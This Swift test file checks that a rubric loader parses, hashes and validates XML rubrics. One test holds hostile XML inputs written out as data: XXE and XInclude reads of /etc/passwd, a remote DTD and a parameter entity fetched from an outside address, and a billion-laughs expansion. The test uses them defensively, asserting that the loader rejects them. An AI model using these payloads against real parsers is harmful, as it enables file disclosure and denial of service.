import Foundation
import OmniscoreCore
import Testing
@testable import OmniscoreRubrics

@Suite("Loading rubrics: safe XML, schema, semantic checks, identity")
struct RubricLoaderTests {
    @Test("a valid rubric loads with its identity and canonical SHA-256")
    func loads() throws {
        let loaded = try RubricLoader.load(source: RubricSource.minimal(), file: "mini.xml")
        #expect(loaded.rubric.id == "mini")
        #expect(loaded.rubric.version == "1.2.0")
        #expect(loaded.rubric.sha256.count == 64)
        #expect(loaded.rubric.sections.first?.criteria.first?.id == "process.greeting")
    }

    @Test("the SHA-256 is of the canonical form: attribute order and quoting do not change it, content does")
    func canonicalHash() throws {
        let a = try RubricLoader.load(source: RubricSource.minimal(), file: "a.xml").rubric.sha256
        let reordered = RubricSource.minimal().replacingOccurrences(of: #"id="mini" version="1.2.0""#, with: #"version='1.2.0'  id='mini'"#)
        let b = try RubricLoader.load(source: reordered, file: "b.xml").rubric.sha256
        let changed = RubricSource.minimal().replacingOccurrences(of: "(hi|hello)", with: "(hi|hello|hey)")
        let c = try RubricLoader.load(source: changed, file: "c.xml").rubric.sha256
        #expect(a == b)
        #expect(a != c)
    }

    @Test("hostile XML is rejected quickly and offline", arguments: [
        ("xxe", #"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rubric xmlns="urn:omniscore:rubric:1" id="x" version="1">&x;</rubric>"#),
        ("remote-dtd", #"<?xml version="1.0"?><!DOCTYPE rubric SYSTEM "http://198.51.100.7/evil.dtd"><rubric xmlns="urn:omniscore:rubric:1" id="x" version="1"/>"#),
        ("billion-laughs", #"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><rubric xmlns="urn:omniscore:rubric:1" id="x" version="1">&lol4;</rubric>"#),
        ("parameter-entity", #"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://198.51.100.7/p.dtd"> %p;]><rubric/>"#),
        ("xinclude", #"<?xml version="1.0"?><rubric xmlns="urn:omniscore:rubric:1" xmlns:xi="http://www.w3.org/2001/XInclude" id="x" version="1"><xi:include href="file:///etc/passwd" parse="text"/></rubric>"#),
    ])
    func hostile(name: String, source: String) {
        let clock = ContinuousClock()
        var errors: [RubricError] = []
        let elapsed = clock.measure { errors = RubricSource.errors(source, file: "\(name).xml") }
        #expect(!errors.isEmpty)
        #expect(elapsed < .seconds(5))
        #expect(errors.allSatisfy { !$0.message.contains("root:") })  // nothing of /etc/passwd leaks into a message
        if name != "xinclude" {
            #expect(errors.first?.code == .doctypeNotAllowed)
            #expect(errors.first?.line == 1)
        }
    }

    @Test("malformed XML names file, line and column")
    func malformed() {
        let source = RubricSource.minimal().replacingOccurrences(of: "<title>Greets</title>", with: "<title>Greets</titel>")
        let error = RubricSource.errors(source, file: "broken.xml").first
        #expect(error?.code == .malformedXML)
        #expect(error?.file == "broken.xml")
        #expect(error?.line == 7)
        #expect((error?.column ?? 0) > 0)
        #expect(error?.description.hasPrefix("broken.xml:7:") == true)
    }

    @Test("schema violations point at the offending element or attribute")
    func schema() {
        let unknownElement = RubricSource.minimal().replacingOccurrences(of: "<title>Greets</title>", with: "<title>Greets</title><colour>red</colour>")
        let error = RubricSource.errors(unknownElement).first
        #expect(error?.code == .schemaViolation)
        #expect(error?.line == 7)
        let badPoints = RubricSource.minimal().replacingOccurrences(of: #"points="10""#, with: #"points="ten""#)
        let pointsError = RubricSource.errors(badPoints).first
        #expect(pointsError?.code == .schemaViolation)
        #expect(pointsError?.line == 6)
    }

    @Test("semantic errors: duplicate ids, unknown references, invalid phrases, empty lists")
    func semantic() {
        let duplicate = RubricSource.minimal(criteria: RubricSource.minimal().components(separatedBy: "<section id=\"process\" title=\"Process\">")[1].components(separatedBy: "</section>")[0] + RubricSource.minimal().components(separatedBy: "<section id=\"process\" title=\"Process\">")[1].components(separatedBy: "</section>")[0])
        #expect(RubricSource.errors(duplicate).contains { $0.code == .duplicateID && $0.message.contains("process.greeting") })

        let unknown = RubricSource.minimal().replacingOccurrences(of: #"<says phrases="greeting""#, with: #"<says phrases="greetings""#)
        let unknownError = RubricSource.errors(unknown).first { $0.code == .unknownReference }
        #expect(unknownError?.message.contains("greetings") == true)
        #expect(unknownError?.line == 8)

        let badPhrase = RubricSource.minimal(lists: #"<phrases id="greeting"><phrase>(hi|hello</phrase></phrases>"#)
        #expect(RubricSource.errors(badPhrase).contains { $0.code == .invalidPhrase && $0.line == 4 })

        let empty = RubricSource.minimal(lists: #"<phrases id="greeting"></phrases>"#)
        #expect(!RubricSource.errors(empty).isEmpty)
    }

    @Test("every error is reported, not only the first")
    func allErrors() {
        let source = RubricSource.minimal(lists: #"<phrases id="greeting"><phrase>(hi|hello)</phrase></phrases><phrases id="greeting"><phrase>hey</phrase></phrases>"#)
            .replacingOccurrences(of: #"<says phrases="greeting""#, with: #"<says phrases="nope""#)
        let errors = RubricSource.errors(source)
        #expect(errors.contains { $0.code == .duplicateID })
        #expect(errors.contains { $0.code == .unknownReference })
    }

    @Test("the embedded schema is the same text as Rubrics/schema/rubric.xsd")
    func embeddedSchema() throws {
        #expect(RubricSchema.source == (try RubricSource.file("Rubrics/schema/rubric.xsd")))
    }

    @Test("every stock rubric loads and all its own examples pass", arguments: ["omnichannel-standard", "refunds-returns", "regulated-financial"])
    func stockRubrics(id: String) throws {
        let source = try RubricSource.file("Rubrics/\(id).xml")
        let loaded = try RubricLoader.load(source: source, file: "Rubrics/\(id).xml")
        #expect(loaded.rubric.id == id)
        let results = RubricCheck.runExamples(loaded.scorer)
        #expect(results.count >= 2 * loaded.rubric.sections.reduce(0) { $0 + $1.criteria.count })
        for failed in results where !failed.passed {
            Issue.record("\(failed.location): example \(failed.name) of \(failed.criterion) expected \(failed.expected), got \(failed.actual): \(failed.reason)")
        }
    }

    @Test("examples that contradict the check fail rubric check, with their location")
    func failingExample() throws {
        let source = RubricSource.minimal().replacingOccurrences(of: #"name="no-greeting" expect="fail""#, with: #"name="no-greeting" expect="pass""#)
        let loaded = try RubricLoader.load(source: source, file: "mini.xml")
        let results = RubricCheck.runExamples(loaded.scorer)
        let failed = try #require(results.first { !$0.passed })
        #expect(failed.name == "no-greeting")
        #expect(failed.location.hasPrefix("mini.xml:"))
    }
}
